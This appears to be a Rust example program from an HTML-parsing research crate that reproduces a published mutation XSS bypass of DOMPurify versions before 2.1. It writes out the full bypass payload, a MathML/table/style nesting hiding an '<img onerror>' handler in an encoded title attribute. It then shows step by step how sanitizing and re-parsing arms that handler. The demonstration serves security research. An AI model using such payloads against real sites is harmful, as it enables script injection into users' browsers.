//! The Figure-1 mutation XSS, step by step.
//!
//! Reproduces the DOMPurify < 2.1 bypass mechanics from the paper's §2.2:
//! an apparently harmless payload mutates through one parse+serialize round
//! (what a sanitizer does) into markup that parses *differently* the second
//! time, releasing the `<img onerror>` payload.
//!
//! ```sh
//! cargo run --example mxss_demo
//! ```

use html_violations::prelude::*;
use html_violations::spec_html::{self, NodeData};

fn main() {
    // Figure 1a: the initial payload handed to the sanitizer. The alert
    // lives inside a title attribute — harmless on first sight.
    let payload = concat!(
        "<math><mtext><table><mglyph><style><!--</style>",
        "<img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">"
    );
    println!("payload (Figure 1a):\n  {payload}\n");

    // First parse — what the sanitizer's parser sees.
    let first = parse_document(payload);
    println!("first parse:");
    for ev in &first.events {
        println!("  tree event: {:?}", ev.kind);
    }

    // Serialize — the sanitizer's output (Figure 1b).
    let body = first.dom.find_html("body").expect("body");
    let sanitized = spec_html::serializer::serialize_children(&first.dom, body);
    println!("\nserialized output (Figure 1b):\n  {sanitized}\n");

    // Observe the two mutations the paper describes:
    assert!(
        sanitized.contains("--><img src=1 onerror=alert(1)>"),
        "entities decoded in the attribute"
    );
    let mglyph_pos = sanitized.find("<mglyph>").expect("mglyph present");
    let table_pos = sanitized.find("<table>").expect("table present");
    assert!(mglyph_pos < table_pos, "elements moved in front of the table");
    println!("mutation 1: HTML entities in the title attribute were decoded");
    println!("mutation 2: mglyph/style were foster-parented in front of the table");

    // Second parse — what the browser does with the sanitizer's output.
    // Inside <math>, the <style> is a MathML element: its `<!--` is now a
    // real comment that swallows markup until the `-->` in the title text,
    // and the <img> that follows is live.
    let second = parse_document(&sanitized);
    let mut live_imgs = Vec::new();
    for id in second.dom.all_elements() {
        let e = second.dom.element(id).unwrap();
        if e.name == "img" {
            if let Some(onerror) = second.dom.attr(id, "onerror") {
                let src = second.dom.attr(id, "src").unwrap_or("?");
                live_imgs.push((src.to_owned(), onerror.to_owned()));
            }
        }
    }
    println!("\nsecond parse: {} live <img onerror> element(s):", live_imgs.len());
    for (src, onerror) in &live_imgs {
        println!("  <img src={src} onerror={onerror}>   ← fires alert(1)");
    }
    assert!(!live_imgs.is_empty(), "the mXSS must re-arm on the second parse");

    // And show the comment that made it possible.
    let comments = second
        .dom
        .descendants(second.dom.root())
        .filter(|&id| matches!(second.dom.data(id), NodeData::Comment(_)))
        .count();
    println!(
        "\n({comments} comment node(s) after the second parse — the `<!--` came alive in MathML)"
    );
    println!("\nThis is why HF4 (broken tables) and HF5 (wrong namespaces) are security-relevant.");
}
